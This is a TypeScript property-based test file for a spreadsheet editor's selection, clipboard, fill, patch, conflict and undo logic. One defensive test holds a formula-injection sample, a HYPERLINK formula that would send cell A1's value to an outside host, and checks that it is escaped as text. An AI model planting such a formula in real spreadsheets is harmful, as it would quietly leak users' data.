import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cellsOf, isCellIn } from '#domain/sheet/CellArea.ts';
import { readSeparated, separatorOf } from '#domain/text/readSeparated.ts';
import { quoteTsv } from '#domain/text/tsv.ts';
import { type CellEdit, wireValue } from './CellInput.ts';
import { fillSeries } from './fillSeries.ts';
import { edgeFrom, extendBy, moveActive, nextInSelection, stepFrom } from './moves.ts';
import { patchesOf, splitPatch } from './patches.ts';
import {
  addRange,
  extendTo,
  freeCorner,
  isSelected,
  type SheetSize,
  selectCell,
  selectColumns,
  WHOLE_SHEET_SIZE,
} from './Selection.ts';
import { threeWay } from './threeWay.ts';
import { UndoStack } from './UndoStack.ts';

const place = fc.record({ row: fc.nat(30), column: fc.nat(30) });
const direction = fc.constantFrom('up', 'down', 'left', 'right');
const small = (hiddenRows: number[] = []): SheetSize => ({
  rowCount: 31,
  columnCount: 31,
  isRowHidden: (row) => hiddenRows.includes(row),
  isColumnHidden: () => false,
});

describe('selections', () => {
  test('extending there and back is the cell again, and every range holds its anchor', () => {
    fc.assert(
      fc.property(place, place, (a, b) => {
        const wide = extendTo(selectCell(a), b);
        expect(isSelected(wide, a.row, a.column) && isSelected(wide, b.row, b.column)).toBe(true);
        expect(freeCorner(wide)).toEqual(b);
        expect(extendTo(wide, a)).toEqual(selectCell(a));
      }),
    );
  });

  test('steps stay on the sheet and skip hidden cells', () => {
    fc.assert(
      fc.property(
        place,
        direction,
        fc.nat(60),
        fc.uniqueArray(fc.nat(30), { maxLength: 20 }),
        (from, way, steps, hidden) => {
          const to = stepFrom(from, way, steps, small(hidden));
          const isMoved = to.row !== from.row;
          expect(to.row >= 0 && to.row <= 30 && to.column >= 0 && to.column <= 30).toBe(true);
          expect(isMoved && hidden.includes(to.row)).toBe(false);
        },
      ),
    );
  });

  test('Ctrl+arrow reaches the same edges as a cell-by-cell walk', () => {
    fc.assert(
      fc.property(
        fc.array(fc.boolean(), { minLength: 2, maxLength: 31 }),
        fc.nat(30),
        fc.boolean(),
        (cells, from, isDown) => {
          const start = from % cells.length;
          const sheet = { ...small(), rowCount: cells.length };
          const filled = (row: number) => cells[row]!;
          const walk = () => {
            const by = isDown ? 1 : -1;
            const isIn = (row: number) => row >= 0 && row < cells.length;
            let row = start + by;
            if (!isIn(row)) return start;
            if (filled(start) && filled(row)) {
              while (isIn(row + by) && filled(row + by)) row += by;
              return row;
            }
            while (isIn(row) && !filled(row)) row += by;
            return isIn(row) ? row : isDown ? cells.length - 1 : 0;
          };
          const to = edgeFrom({ row: start, column: 0 }, isDown ? 'down' : 'up', filled, sheet);
          expect(to.row).toBe(walk());
        },
      ),
    );
  });

  test('it reaches the end of an empty sheet at once', () => {
    let asked = 0;
    const isFilled = () => {
      asked += 1;
      return false;
    };
    const to = edgeFrom({ row: 0, column: 0 }, 'down', isFilled, WHOLE_SHEET_SIZE, 100);
    expect(to.row).toBe(1_048_575);
    expect(asked).toBeLessThan(200);
  });

  test('Tab and Enter visit every selected cell once before they begin again', () => {
    fc.assert(
      fc.property(
        place,
        place,
        place,
        fc.constantFrom('tab', 'enter'),
        fc.boolean(),
        (a, b, c, by, isBack) => {
          const first = extendTo(selectCell(a), b);
          fc.pre(!isSelected(first, c.row, c.column) && cellsOf(first.ranges[0]!) < 200);
          const start = addRange(first, c);
          const count = start.ranges.reduce((sum, range) => sum + cellsOf(range), 0);
          const seen = new Set<string>();
          let selection = start;
          for (let step = 0; step < count; step += 1) {
            seen.add(`${selection.active.row},${selection.active.column}`);
            selection = nextInSelection(selection, by, isBack, small());
          }
          expect(seen.size).toBe(count);
          expect(selection.active).toEqual(start.active);
          expect(selection.ranges).toEqual(start.ranges);
        },
      ),
    );
  });

  test('columns are selected from edge to edge', () => {
    const selection = selectColumns(4, 2);
    expect(selection.ranges[0]).toEqual({ top: 0, left: 2, bottom: 1_048_575, right: 4 });
    expect(extendBy(selectCell({ row: 3, column: 3 }), 'left', 2, small()).ranges[0]).toMatchObject({
      left: 1,
      right: 3,
    });
    expect(moveActive(selection, 'down', 1, small()).ranges).toHaveLength(1);
  });
});

describe('the clipboard', () => {
  test('any texts are read back as they were copied', () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom('a\tb', 'a"b', '"', 'x\ny', '\r', '""', ''));
    const grid = fc
      .integer({ min: 1, max: 5 })
      .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1 }));
    fc.assert(
      fc.property(grid, (rows) => {
        fc.pre(!(rows.at(-1)!.length === 1 && rows.at(-1)![0] === '') && !rows[0]![0]!.startsWith('\uFEFF'));
        const text = rows.map((row) => row.map(quoteTsv).join('\t')).join('\r\n');
        expect(readSeparated(text).rows).toEqual(rows);
      }),
    );
  });

  test.each([
    [
      'a\tb\r\nc\td\r\n',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    ['a\n', [['a']]],
    ['', [['']]],
    [
      'a\tb\nc',
      [
        ['a', 'b'],
        ['c', null],
      ],
    ],
    ['"two\nlines"\tx', [['two\nlines', 'x']]],
    ['"open\tx', [['"open', 'x']]],
    ['5" pipe\tx', [['5" pipe', 'x']]],
    ['\n\na', [[''], [''], ['a']]],
  ])('%j', (text, rows) => expect(readSeparated(text).rows).toEqual(rows));

  test.each([
    ['a,b;c', ','],
    ['a;b;c,d', ';'],
    ['"x,y,z"\ta', '\t'],
    ['one', '\t'],
  ])('the separator of %j', (text, mark) => {
    expect(separatorOf(text)).toBe(mark);
    expect(readSeparated('a;"b;c"', ';').rows).toEqual([['a', 'b;c']]);
  });
});

describe('filling', () => {
  const values = (source: (string | number | null)[], count: number, isBack = false) =>
    fillSeries(
      source.map((value) => ({ value })),
      count,
      'rows',
      isBack,
    ).map((input) =>
      input.kind === 'value' ? input.value : input.kind === 'text' ? input.text : input.kind,
    );
  test.each<[(string | number | null)[], number, unknown[]]>([
    [[1, 2], 3, [3, 4, 5]],
    [[0.1, 0.2], 2, [0.3, 0.4]],
    [[5], 2, [5, 5]],
    [[1, 3, 2], 2, [3, 3.5]],
    [['Mon'], 3, ['Tue', 'Wed', 'Thu']],
    [['jan', 'mar'], 2, ['may', 'jul']],
    [['Site 09'], 2, ['Site 10', 'Site 11']],
    [['a', 'b'], 3, ['a', 'b', 'a']],
    [[1, 'x'], 3, [1, 'x', 1]],
    [[null], 1, ['clear']],
  ])('%j', (source, count, filled) => expect(values(source, count)).toEqual(filled));

  test('filling backwards continues the series downwards', () => {
    expect(values([3, 4], 2, true)).toEqual([2, 1]);
    expect(values(['b', 'c'], 3, true)).toEqual(['c', 'b', 'c']);
  });

  test('formulas move with their cells, dates by days', () => {
    expect(fillSeries([{ value: 1, formula: 'A1+$B$1' }], 2, 'rows')).toEqual([
      { kind: 'formula', formula: 'A2+$B$1' },
      { kind: 'formula', formula: 'A3+$B$1' },
    ]);
    expect(fillSeries([{ value: 45000, isDate: true }], 1, 'columns')).toEqual([
      { kind: 'value', value: 45001 },
    ]);
  });
});

describe('patches', () => {
  const input = fc.oneof(
    fc.string().map((text) => ({ kind: 'typed', text }) as const),
    fc.string().map((text) => ({ kind: 'text', text }) as const),
    fc.constant({ kind: 'clear' } as const),
    fc.integer().map((value) => ({ kind: 'value', value }) as const),
  );
  const edit = fc
    .record({
      row: fc.nat(200),
      column: fc.nat(40),
      input: fc.option(input, { nil: undefined }),
      numberFormat: fc.option(fc.constantFrom('0.00', '@'), { nil: undefined }),
    })
    .map(
      ({ row, column, input: own, numberFormat }): CellEdit => ({
        row,
        column,
        ...(own && { input: own }),
        ...(numberFormat !== undefined && { numberFormat }),
      }),
    );

  test('say every edit once, nothing else, and keep the limit', () => {
    fc.assert(
      fc.property(fc.array(edit, { maxLength: 80 }), fc.integer({ min: 1, max: 500 }), (edits, cells) => {
        const sheet = new Map<string, unknown>();
        const formats = new Map<string, unknown>();
        for (const { area, values, numberFormat } of patchesOf(edits, { cells, bytes: 100_000 })) {
          expect(cellsOf(area)).toBeLessThanOrEqual(cells);
          for (let row = area.top; row <= area.bottom; row += 1)
            for (let column = area.left; column <= area.right; column += 1) {
              const key = `${row},${column}`;
              const value = values?.[row - area.top]?.[column - area.left] ?? null;
              const format = numberFormat?.[row - area.top]?.[column - area.left] ?? null;
              if (value !== null) {
                expect(sheet.has(key)).toBe(false);
                sheet.set(key, value);
              }
              if (format !== null) formats.set(key, format);
            }
        }
        const wanted = new Map<string, unknown>();
        const wantedFormats = new Map<string, unknown>();
        for (const { row, column, input: own, numberFormat } of edits) {
          if (own) wanted.set(`${row},${column}`, wireValue(own));
          if (numberFormat !== undefined) wantedFormats.set(`${row},${column}`, numberFormat);
        }
        expect(new Map([...sheet].sort())).toEqual(new Map([...wanted].sort()));
        expect(new Map([...formats].sort())).toEqual(new Map([...wantedFormats].sort()));
      }),
    );
  });

  test('a paste of ten thousand cells is one call, a scattered one few', () => {
    const block = Array.from(
      { length: 10_000 },
      (_, at): CellEdit => ({
        row: Math.floor(at / 10),
        column: at % 10,
        input: { kind: 'value', value: at },
      }),
    );
    expect(patchesOf(block, { cells: 20_000, bytes: 1_000_000 })).toHaveLength(1);
    expect(patchesOf(block, { cells: 5_000, bytes: 1_000_000 }).length).toBeLessThanOrEqual(4);
    const diagonal = Array.from(
      { length: 8 },
      (_, at): CellEdit => ({ row: at, column: at, input: { kind: 'clear' } }),
    );
    expect(patchesOf(diagonal, { cells: 20_000, bytes: 1_000_000 })).toHaveLength(1);
  });

  test('halves together are the whole', () => {
    const patch = {
      area: { top: 1, left: 1, bottom: 3, right: 2 },
      values: [
        [1, 2],
        [3, null],
        [5, 6],
      ],
    };
    const [a, b] = splitPatch(patch)!;
    expect(cellsOf(a.area) + cellsOf(b.area)).toBe(6);
    expect([...a.values!, ...b.values!]).toEqual(patch.values);
    expect(isCellIn(3, 2, b.area)).toBe(true);
    expect(splitPatch({ area: { top: 0, left: 0, bottom: 0, right: 0 }, values: [[1]] })).toBeUndefined();
  });

  test('data that looks like a formula is written as text', () => {
    expect(wireValue({ kind: 'text', text: '=HYPERLINK("//a.co?"&A1)' })).toBe('\'=HYPERLINK("//a.co?"&A1)');
    expect(wireValue({ kind: 'typed', text: '=1+1' })).toBe('=1+1');
  });
});

test('two editors in any order: no unseen change is overwritten', () => {
  const cell = fc.nat(3);
  const step = fc.record({
    who: fc.constantFrom('a', 'b'),
    act: fc.constantFrom('look', 'edit', 'send'),
    cell,
    value: fc.nat(2),
  });
  fc.assert(
    fc.property(fc.array(step, { maxLength: 60 }), (steps) => {
      const sheet = [0, 0, 0, 0];
      const editors = {
        a: { seen: [0, 0, 0, 0], mine: new Map<number, { before: number; value: number }>() },
        b: { seen: [0, 0, 0, 0], mine: new Map<number, { before: number; value: number }>() },
      };
      for (const { who, act, cell: at, value } of steps) {
        const editor = editors[who];
        if (act === 'look') editor.seen[at] = sheet[at]!;
        if (act === 'edit')
          editor.mine.set(at, { before: editor.mine.get(at)?.before ?? editor.seen[at]!, value });
        const edit = act === 'send' ? editor.mine.get(at) : undefined;
        if (!edit) continue;
        const outcome = threeWay(edit.before, sheet[at]!, edit.value);
        if (outcome === 'clean') {
          expect(sheet[at]).toBe(edit.before);
          sheet[at] = edit.value;
        }
        if (outcome === 'conflict') expect(sheet[at]).not.toBe(edit.value);
        else {
          editor.mine.delete(at);
          editor.seen[at] = sheet[at]!;
        }
      }
    }),
  );
});

test('undo and redo are inverse; a new step clears the redo list', () => {
  const stack = new UndoStack<number>(3);
  for (const step of [1, 2, 3, 4]) stack.push(step);
  expect([stack.undo(), stack.undo(), stack.redo(), stack.undo(), stack.undo(), stack.undo()]).toEqual([
    4,
    3,
    3,
    3,
    2,
    undefined,
  ]);
  expect([stack.nextUndo, stack.nextRedo]).toEqual([undefined, 2]);
  stack.push(9);
  expect([stack.nextUndo, stack.nextRedo]).toEqual([9, undefined]);
  expect([stack.undo(), stack.nextUndo, stack.nextRedo]).toEqual([9, undefined, 9]);
});

test('a step whose undo failed keeps its place, unless it was dropped or another step followed', () => {
  const stack = new UndoStack<string>(3);
  for (const step of ['a', 'b']) stack.push(step);
  stack.undo();
  stack.restore('b');
  expect([stack.nextRedo, stack.undo(), stack.redo()]).toEqual([undefined, 'b', 'b']);
  stack.undo();
  stack.redo();
  stack.restore('b');
  expect([stack.redo(), stack.undo(), stack.undo()]).toEqual(['b', 'b', 'a']);
  stack.restore('b');
  expect(stack.redo()).toBe('a');
  stack.push('c');
  stack.restore('b');
  expect([stack.undo(), stack.undo(), stack.undo()]).toEqual(['c', 'a', undefined]);
  stack.forgetUndone();
  stack.restore('a');
  expect([stack.nextUndo, stack.nextRedo]).toEqual([undefined, undefined]);
});

test('lists the steps after a given one, even when that one is no longer on the stack', () => {
  const stack = new UndoStack<string>(3);
  for (const step of ['a', 'b', 'c']) stack.push(step);
  expect(stack.after('a')).toEqual(['b', 'c']);
  stack.undo();
  expect([stack.after('a'), stack.after('b')]).toEqual([['b'], []]);
  for (const step of ['d', 'e']) stack.push(step);
  expect(stack.after('a')).toEqual(['b', 'd', 'e']);
});

test('a step that cannot be undone clears both stacks', () => {
  const stack = new UndoStack<string>(2);
  for (const step of ['a', 'b']) stack.push(step);
  expect(stack.isCut).toBe(false);
  stack.undo();
  stack.cut();
  expect([stack.nextUndo, stack.nextRedo, stack.isCut]).toEqual([undefined, undefined, true]);
  stack.push('c');
  expect([stack.undo(), stack.undo(), stack.isCut]).toEqual(['c', undefined, true]);
});
